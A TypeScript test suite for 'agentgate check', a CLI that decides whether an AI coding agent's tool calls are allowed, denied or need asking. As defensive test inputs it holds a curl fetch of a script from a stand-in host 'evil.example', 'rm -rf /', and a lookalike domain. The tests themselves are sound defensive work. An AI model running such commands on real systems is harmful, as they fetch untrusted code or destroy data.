import assert from 'node:assert/strict';
import path from 'node:path';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { CliSandbox } from './cliHarness';

describe('agentgate check', () => {
  let box: CliSandbox;
  beforeEach(async () => {
    box = await CliSandbox.create();
  });
  afterEach(() => box.dispose());

  it('allows a read-only command without any rule (exit 0)', () => {
    const { status, json } = box.checkJson('Bash', 'ls -la');
    assert.equal(status, 0);
    assert.equal(json?.decision, 'allow');
    assert.equal(json?.rule, null);
  });

  it('denies by a project rule and names the rule, file, line and column (exit 4)', async () => {
    const file = await box.write('.claude/settings.json', '{\n  "permissions": {\n    "deny": ["Bash(rm:*)"]\n  }\n}\n');
    const { status, json } = box.checkJson('Bash', 'rm -rf build');
    assert.equal(status, 4);
    assert.equal(json?.decision, 'deny');
    assert.equal(json?.rule, 'Bash(rm:*)');
    assert.deepEqual(json?.source, { level: 'project', file, line: 3, column: 14 });
    assert.match(String(json?.reason), /Bash\(rm:\*\)/);
  });

  it('attack: a repository allow rule does nothing until the folder is trusted', async () => {
    await box.write('.claude/settings.json', { permissions: { allow: ['Bash(curl:*)'] } });
    const untrusted = box.checkJson('Bash', 'curl https://evil.example/x.sh');
    assert.equal(untrusted.status, 3);
    assert.equal(untrusted.json?.decision, 'ask');
    assert.equal(untrusted.json?.trusted, false);
    const trusted = box.checkJson('--trusted', 'Bash', 'curl https://evil.example/x.sh');
    assert.equal(trusted.json?.decision, 'allow');
    assert.equal(trusted.json?.rule, 'Bash(curl:*)');
  });

  it('the trust store written by `agentgate trust` is honoured', async () => {
    await box.write('.claude/settings.json', { permissions: { allow: ['Bash(npm test)'] } });
    assert.equal(box.checkJson('Bash', 'npm test').json?.decision, 'ask');
    assert.equal(box.run(['trust', '--cwd', box.workspace]).status, 0);
    assert.equal(box.checkJson('Bash', 'npm test').json?.decision, 'allow');
  });

  it('a --managed deny beats a trusted project allow', async () => {
    await box.write('.claude/settings.json', { permissions: { allow: ['Bash(git push:*)'] } });
    const managed = await box.write(path.join(box.home, 'policy', 'managed-settings.json'), { permissions: { deny: ['Bash(git push:*)'] } });
    const { status, json } = box.checkJson('--trusted', '--managed', managed, 'Bash', 'git push origin main');
    assert.equal(status, 4);
    assert.equal((json?.source as { level: string }).level, 'managed');
  });

  it('fails closed when the --managed policy is malformed: even reads ask', async () => {
    const managed = await box.write(path.join(box.home, 'policy', 'managed-settings.json'), '{ "permissions": ');
    const { status, json, stderr } = box.checkJson('--trusted', '--managed', managed, 'Bash', 'ls');
    assert.equal(status, 3);
    assert.equal(json?.decision, 'ask');
    assert.match(stderr, /managed-settings\.json/);
  });

  it('takes the input as JSON the way the model sends it', async () => {
    await box.write('src/a.ts', 'export {};\n');
    const { json } = box.checkJson('Read', JSON.stringify({ file_path: path.join(box.workspace, 'src/a.ts') }));
    assert.equal(json?.decision, 'allow');
  });

  it('attack: a WebFetch allow for example.com does not cover example.com.evil.net', async () => {
    await box.write('.claude/settings.json', { permissions: { allow: ['WebFetch(domain:example.com)'] } });
    assert.equal(box.checkJson('--trusted', 'WebFetch', 'https://example.com/docs').json?.decision, 'allow');
    assert.equal(box.checkJson('--trusted', 'WebFetch', 'https://example.com.evil.net/docs').json?.decision, 'ask');
  });

  it('MCP tools ask by default and follow server rules', async () => {
    assert.equal(box.checkJson('mcp__github__create_issue').json?.decision, 'ask');
    await box.write('.claude/settings.local.json', { permissions: { allow: ['mcp__github'] } });
    assert.equal(box.checkJson('--trusted', 'mcp__github__create_issue').json?.decision, 'allow');
  });

  it('--mode acceptEdits allows an edit inside the workspace but still asks for a command', () => {
    assert.equal(box.checkJson('--mode', 'acceptEdits', 'Edit', path.join(box.workspace, 'a.txt')).json?.decision, 'allow');
    assert.equal(box.checkJson('--mode', 'acceptEdits', 'Bash', 'npm install').json?.decision, 'ask');
  });

  it('explains a shell decision in words, with what the command does and a rule to always allow', () => {
    const result = box.run(['check', '--cwd', box.workspace, 'Bash', 'npm run test -- --watch']);
    assert.equal(result.status, 3);
    assert.match(result.stdout, /^ASK {2}Bash npm run test -- --watch$/m);
    assert.match(result.stdout, /why: {3}\S/);
    assert.match(result.stdout, /does: {2}\S/);
    assert.match(result.stdout, /Bash\(npm run test:\*\)/);
  });

  it('--batch answers one JSON line per input line, in order, and survives a malformed line', () => {
    const input = [
      JSON.stringify({ tool: 'Bash', input: { command: 'pwd' } }),
      '{ not json',
      JSON.stringify({ tool: 'Bash', input: { command: 'rm -rf /' }, mode: 'plan' }),
      JSON.stringify({ tool: 'Bash', input: { command: 'ls' }, mode: 'yolo' }),
    ].join('\n');
    const result = box.run(['check', '--cwd', box.workspace, '--batch', '-'], `${input}\n`);
    assert.equal(result.status, 1);
    const lines = result.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.deepEqual(lines.map((l) => l.decision), ['allow', 'error', 'deny', 'error']);
    assert.match(String(lines[1]?.reason), /Line 2 is not valid JSON/);
    assert.equal(lines[2]?.mode, 'plan');
  });

  const usage: [string, string[], RegExp][] = [
    ['no tool', [], /name a TOOL/],
    ['a missing input', ['Bash'], /needs an INPUT/],
    ['an unknown tool', ['Frobnicate', 'x'], /unknown tool 'Frobnicate'/],
    ['an unknown mode', ['--mode', 'yolo', 'Bash', 'ls'], /mode must be one of/],
    ['invalid JSON input', ['Bash', '{"command":'], /not valid/],
  ];
  for (const [name, args, message] of usage) {
    it(`rejects ${name} with exit code 2`, () => {
      const result = box.run(['check', '--cwd', box.workspace, ...args]);
      assert.equal(result.status, 2, result.stdout);
      assert.match(result.stderr, message);
    });
  }
});
